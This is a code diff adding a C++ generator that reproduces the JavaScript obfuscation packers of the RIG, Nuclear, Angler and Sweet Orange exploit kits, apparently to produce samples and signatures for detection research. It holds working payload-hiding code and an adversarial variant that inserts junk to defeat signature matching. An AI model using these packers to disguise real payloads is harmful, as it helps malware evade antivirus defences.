@@ -1,0 +1,385 @@
+#include "kitgen/packers.h"
+
+#include <algorithm>
+#include <stdexcept>
+
+#include "support/strings.h"
+
+namespace kizzle::kitgen {
+
+namespace {
+
+// JS string-literal escaping for double-quoted strings.
+std::string js_escape(const std::string& s) {
+  std::string out;
+  out.reserve(s.size() + 8);
+  for (char c : s) {
+    switch (c) {
+      case '"': out += "\\\""; break;
+      case '\\': out += "\\\\"; break;
+      case '\n': out += "\\n"; break;
+      case '\r': out += "\\r"; break;
+      case '\t': out += "\\t"; break;
+      default: out.push_back(c);
+    }
+  }
+  return out;
+}
+
+}  // namespace
+
+// ---------------------------------------------------------------- RIG --
+
+std::string pack_rig(const std::string& payload, const RigPackerState& st,
+                     Rng& rng) {
+  const std::string buf = rng.identifier(3, 7);
+  const std::string delim_var = rng.identifier(3, 7);
+  const std::string collect = rng.identifier(4, 8);
+  const std::string pieces = rng.identifier(3, 7);
+  const std::string elem = rng.identifier(4, 8);
+  const std::string idx = rng.identifier(1, 2);
+
+  // Char codes joined by the delimiter, one trailing delimiter per code
+  // (Fig 4a: "47 y642y6100y6"), chunked into collector calls.
+  std::string codes;
+  codes.reserve(payload.size() * 4);
+  std::vector<std::string> chunks;
+  std::size_t in_chunk = 0;
+  const std::size_t chunk_codes = 12;
+  for (unsigned char c : payload) {
+    codes += std::to_string(static_cast<int>(c));
+    codes += st.delim;
+    if (++in_chunk == chunk_codes) {
+      chunks.push_back(codes);
+      codes.clear();
+      in_chunk = 0;
+    }
+  }
+  if (!codes.empty()) chunks.push_back(codes);
+
+  std::string out;
+  out.reserve(payload.size() * 5 + 512);
+  out += "var " + buf + "=\"\";\n";
+  out += "var " + delim_var + "=\"" + js_escape(st.delim) + "\";\n";
+  out += "function " + collect + "(t){" + buf + "+=t;}\n";
+  for (const std::string& chunk : chunks) {
+    out += collect + "(\"" + chunk + "\");\n";
+  }
+  out += pieces + "=" + buf + ".split(" + delim_var + ");\n";
+  out += elem + "=document.createElement(\"script\");\n";
+  out += "for(var " + idx + "=0;" + idx + "<" + pieces + ".length-1;" + idx +
+         "++){" + elem + ".text+=String.fromCharCode(" + pieces + "[" + idx +
+         "]);}\n";
+  out += "document.body.appendChild(" + elem + ");\n";
+  return out;
+}
+
+std::string rig_analyst_feature(const RigPackerState& st) {
+  // In AV-normalized text (quotes and whitespace stripped), the delimiter
+  // declaration plus the collector keyword reads: =<delim>;function
+  return "=" + st.delim + ";function";
+}
+
+namespace {
+
+// One superfluous statement, randomized per call so that no two samples
+// share junk token runs.
+std::string junk_statement(Rng& rng) {
+  switch (rng.index(5)) {
+    case 0:
+      return "var " + rng.identifier(3, 8) + "=" +
+             std::to_string(rng.uniform(1, 9999)) + ";";
+    case 1:
+      return rng.identifier(3, 8) + "=\"" +
+             rng.string_over("abcdefghijklmnop0123456789", 4 + rng.index(9)) +
+             "\";";
+    case 2: {
+      const std::string v = rng.identifier(3, 7);
+      return "var " + v + "=" + std::to_string(rng.uniform(2, 99)) + "*" +
+             std::to_string(rng.uniform(2, 99)) + ";";
+    }
+    case 3: {
+      const std::string v = rng.identifier(3, 7);
+      return "if(typeof " + v + "==\"undefined\"){var " + v + "=" +
+             std::to_string(rng.uniform(0, 1)) + ";}";
+    }
+    default: {
+      const std::string f = rng.identifier(4, 8);
+      return "function " + f + "(){return " +
+             std::to_string(rng.uniform(1, 999)) + "}";
+    }
+  }
+}
+
+}  // namespace
+
+std::string pack_rig_adversarial(const std::string& payload,
+                                 const RigPackerState& st,
+                                 double junk_density, Rng& rng) {
+  const std::string buf = rng.identifier(3, 7);
+  const std::string delim_var = rng.identifier(3, 7);
+  const std::string collect = rng.identifier(4, 8);
+  const std::string pieces = rng.identifier(3, 7);
+  const std::string elem = rng.identifier(4, 8);
+  const std::string idx = rng.identifier(1, 2);
+
+  std::string out;
+  out.reserve(payload.size() * 5 + 2048);
+  auto junk = [&] {
+    const std::size_t n = 1 + rng.index(2);
+    for (std::size_t i = 0; i < n; ++i) {
+      if (rng.chance(junk_density)) out += junk_statement(rng) + "\n";
+    }
+  };
+
+  junk();
+  out += "var " + buf + "=\"\";\n";
+  junk();
+  out += "var " + delim_var + "=\"" + js_escape(st.delim) + "\";\n";
+  junk();
+  // Junk inside the collector body breaks the run through the function.
+  out += "function " + collect + "(t){";
+  if (rng.chance(junk_density)) out += junk_statement(rng);
+  out += buf + "+=t;}\n";
+  junk();
+
+  std::string codes;
+  std::size_t in_chunk = 0;
+  const std::size_t chunk_codes = 12;
+  for (unsigned char c : payload) {
+    codes += std::to_string(static_cast<int>(c));
+    codes += st.delim;
+    if (++in_chunk == chunk_codes) {
+      out += collect + "(\"" + codes + "\");\n";
+      if (rng.chance(junk_density * 0.25)) out += junk_statement(rng) + "\n";
+      codes.clear();
+      in_chunk = 0;
+    }
+  }
+  if (!codes.empty()) out += collect + "(\"" + codes + "\");\n";
+
+  junk();
+  out += pieces + "=" + buf + ".split(" + delim_var + ");\n";
+  junk();
+  out += elem + "=document.createElement(\"script\");\n";
+  junk();
+  // Junk at the head of the loop body breaks the run through the loop.
+  out += "for(var " + idx + "=0;" + idx + "<" + pieces + ".length-1;" + idx +
+         "++){";
+  if (rng.chance(junk_density)) out += junk_statement(rng);
+  out += elem + ".text+=String.fromCharCode(" + pieces + "[" + idx + "]);}\n";
+  junk();
+  out += "document.body.appendChild(" + elem + ");\n";
+  return out;
+}
+
+// ------------------------------------------------------------ Nuclear --
+
+std::string nuclear_obfuscate(const std::string& word,
+                              const NuclearPackerState& st) {
+  if (st.mode == ObfuscationMode::InsertOnce) {
+    // insert after the first half: "ev" + strip + "al"
+    const std::size_t half = word.size() / 2;
+    return word.substr(0, half) + st.strip + word.substr(half);
+  }
+  std::string out;
+  for (char c : word) {
+    out.push_back(c);
+    out += st.strip;
+  }
+  return out;
+}
+
+std::string pack_nuclear(const std::string& payload,
+                         const NuclearPackerState& st, Rng& rng) {
+  // Per-response key: a shuffled alphabet covering every payload byte we
+  // can emit (tab, newline, CR, printable ASCII). 98 symbols, so indices
+  // fit in two decimal digits.
+  std::string alphabet = "\t\n\r";
+  for (char c = ' '; c <= '~'; ++c) alphabet.push_back(c);
+  std::vector<char> key_chars(alphabet.begin(), alphabet.end());
+  // Fisher-Yates via Rng
+  for (std::size_t i = key_chars.size() - 1; i > 0; --i) {
+    std::swap(key_chars[i], key_chars[rng.index(i + 1)]);
+  }
+  const std::string key(key_chars.begin(), key_chars.end());
+
+  if (st.radix != 10 && st.radix != 16) {
+    throw std::invalid_argument("pack_nuclear: radix must be 10 or 16");
+  }
+  static constexpr char kHexDigits[] = "0123456789abcdef";
+  std::string digits;
+  digits.reserve(payload.size() * 2);
+  for (char c : payload) {
+    const std::size_t pos = key.find(c);
+    if (pos == std::string::npos) {
+      throw std::logic_error("pack_nuclear: payload byte outside alphabet");
+    }
+    if (st.radix == 10) {
+      if (pos < 10) digits.push_back('0');
+      digits += std::to_string(pos);
+    } else {
+      digits.push_back(kHexDigits[pos >> 4]);
+      digits.push_back(kHexDigits[pos & 0xF]);
+    }
+  }
+
+  const std::string pvar = rng.identifier(3, 7);
+  const std::string kvar = rng.identifier(3, 7);
+  const std::string getter = rng.identifier(4, 8);
+  const std::string self = rng.identifier(4, 8);
+  const std::string bgc = rng.identifier(3, 6);
+  const std::string evl = rng.identifier(3, 6);
+  const std::string win = rng.identifier(3, 6);
+  const std::string outv = rng.identifier(3, 6);
+  const std::string idx = rng.identifier(1, 2);
+
+  const std::string eval_obf = nuclear_obfuscate("eval", st);
+  const std::string window_obf = nuclear_obfuscate("window", st);
+
+  std::string out;
+  out.reserve(payload.size() * 3 + 1024);
+  out += "var " + pvar + "=\"" + digits + "\";\n";
+  out += "var " + kvar + "=\"" + js_escape(key) + "\";\n";
+  out += getter + "=function(a){return a;};\n";
+  out += self + "=this;\n";
+  out += bgc + "=" + getter + "(\"" + js_escape(st.strip) + "\");\n";
+  out += evl + "=" + getter + "(\"" + eval_obf + "\");\n";
+  out += win + "=" + getter + "(\"" + window_obf + "\");\n";
+  out += "var " + outv + "=\"\";\n";
+  out += "for(var " + idx + "=0;" + idx + "<" + pvar + ".length;" + idx +
+         "+=2){" + outv + "+=" + kvar + ".charAt(parseInt(" + pvar +
+         ".substr(" + idx + ",2)," + std::to_string(st.radix) + "));}\n";
+  out += self + "[" + win + ".split(" + bgc + ").join(\"\")][" + evl +
+         ".split(" + bgc + ").join(\"\")](" + outv + ");\n";
+  return out;
+}
+
+std::string nuclear_analyst_feature(const NuclearPackerState& st) {
+  // The obfuscated-eval string in normalized text, with the call
+  // parenthesis as anchor: "(ev#FFFFFFal)".
+  return "(" + nuclear_obfuscate("eval", st) + ")";
+}
+
+// ------------------------------------------------------------- Angler --
+
+std::string pack_angler(const std::string& payload,
+                        const AnglerPackerState& st, Rng& rng) {
+  const std::string arr = rng.identifier(3, 7);
+  const std::string shift = rng.identifier(3, 6);
+  const std::string acc = rng.identifier(3, 6);
+  const std::string idx = rng.identifier(1, 2);
+  const std::string wnd = rng.identifier(3, 6);
+
+  std::string out;
+  out.reserve(payload.size() * 5 + 512);
+  out += "var " + arr + "=[";
+  for (std::size_t i = 0; i < payload.size(); ++i) {
+    if (i) out.push_back(',');
+    out += std::to_string(static_cast<int>(static_cast<unsigned char>(
+                              payload[i])) +
+                          st.offset);
+  }
+  out += "];\n";
+  out += "var " + shift + "=" + std::to_string(st.offset) + ";\n";
+  out += "var " + acc + "=\"\";\n";
+  out += "for(var " + idx + "=0;" + idx + "<" + arr + ".length;" + idx +
+         "++){" + acc + "+=String.fromCharCode(" + arr + "[" + idx + "]-" +
+         shift + ");}\n";
+  out += "var " + wnd + "=window;\n";
+  out += wnd + "[";
+  for (std::size_t i = 0; i < st.eval_parts.size(); ++i) {
+    if (i) out.push_back('+');
+    out += "\"" + st.eval_parts[i] + "\"";
+  }
+  out += "](" + acc + ");\n";
+  return out;
+}
+
+std::string angler_analyst_feature(const AnglerPackerState& st) {
+  // Normalized trigger: [e+v+a+l]( — the version's split pattern.
+  std::string out = "[";
+  for (std::size_t i = 0; i < st.eval_parts.size(); ++i) {
+    if (i) out.push_back('+');
+    out += st.eval_parts[i];
+  }
+  out += "](";
+  return out;
+}
+
+// ------------------------------------------------------- Sweet Orange --
+
+std::string pack_sweet_orange(const std::string& payload,
+                              const SweetOrangePackerState& st, Rng& rng) {
+  if (st.positions.size() != st.key.size()) {
+    throw std::invalid_argument(
+        "pack_sweet_orange: key/positions size mismatch");
+  }
+  static constexpr std::string_view kJunkAlphabet =
+      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
+
+  // Junk strings with key characters planted at the secret positions.
+  std::vector<std::string> junk_vars;
+  std::vector<std::string> junk;
+  for (std::size_t i = 0; i < st.key.size(); ++i) {
+    const int pos = st.positions[i];
+    if (pos < 0) throw std::invalid_argument("pack_sweet_orange: bad pos");
+    const std::size_t len = static_cast<std::size_t>(pos) + 1 +
+                            rng.index(static_cast<std::size_t>(st.junk_extra) + 1);
+    std::string j = rng.string_over(kJunkAlphabet, len);
+    j[static_cast<std::size_t>(pos)] = st.key[i];
+    junk.push_back(std::move(j));
+    junk_vars.push_back(rng.identifier(3, 6));
+  }
+
+  // Hex payload, XORed with the cycling key.
+  static constexpr char kHex[] = "0123456789abcdef";
+  std::string hex;
+  hex.reserve(payload.size() * 2);
+  for (std::size_t i = 0; i < payload.size(); ++i) {
+    const unsigned char b =
+        static_cast<unsigned char>(payload[i]) ^
+        static_cast<unsigned char>(st.key[i % st.key.size()]);
+    hex.push_back(kHex[b >> 4]);
+    hex.push_back(kHex[b & 0xF]);
+  }
+
+  const std::string keyfun = rng.identifier(4, 8);
+  const std::string hexvar = rng.identifier(3, 6);
+  const std::string keyvar = rng.identifier(3, 6);
+  const std::string outvar = rng.identifier(3, 6);
+  const std::string idx = rng.identifier(1, 2);
+
+  std::string out;
+  out.reserve(payload.size() * 3 + 1024);
+  for (std::size_t i = 0; i < junk.size(); ++i) {
+    out += "var " + junk_vars[i] + "=\"" + junk[i] + "\";\n";
+  }
+  out += "function " + keyfun + "(){var ok=[";
+  for (std::size_t i = 0; i < junk.size(); ++i) {
+    if (i) out.push_back(',');
+    const int pos = st.positions[i];
+    out += junk_vars[i] + ".charAt(Math.sqrt(" + std::to_string(pos * pos) +
+           "))";
+  }
+  out += "];return ok.join(\"\");}\n";
+  out += "var " + hexvar + "=\"" + hex + "\";\n";
+  out += "var " + keyvar + "=" + keyfun + "();\n";
+  out += "var " + outvar + "=\"\";\n";
+  out += "for(var " + idx + "=0;" + idx + "<" + hexvar + ".length;" + idx +
+         "+=2){" + outvar + "+=String.fromCharCode(parseInt(" + hexvar +
+         ".substr(" + idx + ",2),16)^" + keyvar + ".charCodeAt((" + idx +
+         "/2)%" + keyvar + ".length));}\n";
+  // Sweet Orange fires the decoded payload through a Function constructor
+  // (not the bracket-eval idiom, which Angler uses).
+  const std::string fn = rng.identifier(3, 6);
+  out += "var " + fn + "=new Function(" + outvar + ");" + fn + "();\n";
+  return out;
+}
+
+std::string sweet_orange_analyst_feature(const SweetOrangePackerState& st) {
+  const int p0 = st.positions.at(0);
+  return ".charAt(Math.sqrt(" + std::to_string(p0 * p0) + "))";
+}
+
+}  // namespace kizzle::kitgen
